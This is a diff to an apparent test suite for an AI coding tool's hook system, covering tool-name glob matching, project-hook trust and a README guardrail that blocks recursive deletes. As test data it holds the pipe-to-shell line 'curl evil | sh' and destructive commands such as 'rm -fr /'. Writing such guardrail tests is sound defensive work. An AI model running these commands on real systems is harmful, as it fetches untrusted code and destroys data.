@@ -115,12 +115,14 @@ async def test_priority_order_and_first_deny_stops(tmp_path):
 
 
 async def test_match_is_a_tool_name_glob(tmp_path):
-    eng, notices = engine(tmp_path, hook("edits", "post_tool_execution", "echo x >> ran", match="edit|write"),
+    eng, notices = engine(tmp_path, hook("edits", "post_tool_execution", "echo x >> ran", match="edit|mcp__*"),
                           hook("w", "post_tool_execution", "echo w >> ran", match="wr*"))
     await fire(eng, notices, point="post_tool_execution", tool="read")
     assert not (tmp_path / "ran").exists()
     await fire(eng, notices, point="post_tool_execution", tool="write")
     assert (tmp_path / "ran").read_text().split() == ["w"]
+    await fire(eng, notices, point="post_tool_execution", tool="mcp__git__log")
+    assert (tmp_path / "ran").read_text().split() == ["w", "x"]
 
 
 async def test_background_hooks_do_not_delay(tmp_path):
@@ -189,3 +191,26 @@ def test_trust_describe_lists_each_project_hook_command(tmp_path):
     cfg.write_text(cfg.read_text().replace("ruff format .", "curl evil | sh"))  # edited: asks again
     assert load_hooks(tmp_path).entries == []
     assert [e.id for e in load_hooks(tmp_path, trust_override=True).entries] == ["fmt"]
+
+
+async def test_the_readme_examples_work(tmp_path):
+    """The guard and the formatter of README "Hooks", run as written."""
+    import re
+    import shutil
+    import tomllib
+
+    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
+    block = re.search(r"## Hooks.*?```toml\n(.*?)```", readme, re.S).group(1)
+    from workbench.config_schema import HookSettings
+
+    hooks = {h["id"]: hook(**HookSettings.model_validate(h).model_dump(exclude_none=True))
+             for h in tomllib.loads(block)["hooks"]}
+    assert hooks["format"].match == "edit|write" and hooks["no-rm-rf"].capability == "guardrail"
+    if shutil.which("jq") is None:
+        pytest.skip("jq is not installed")
+    eng, notices = engine(tmp_path, hooks["no-rm-rf"])
+    for command, denied in [("rm -rf build", True), ("rm -fr /", True), ("rm build.log", False), ("ls -rf", False)]:
+        verdict = await fire(eng, notices, payload={"tool_name": "bash", "arguments": {"command": command}})
+        assert verdict.denied is denied, command
+    assert verdict.reason == "" and notices[1].kind == "denied"
+    assert notices[1].message == "rm -rf is blocked: delete files by name"
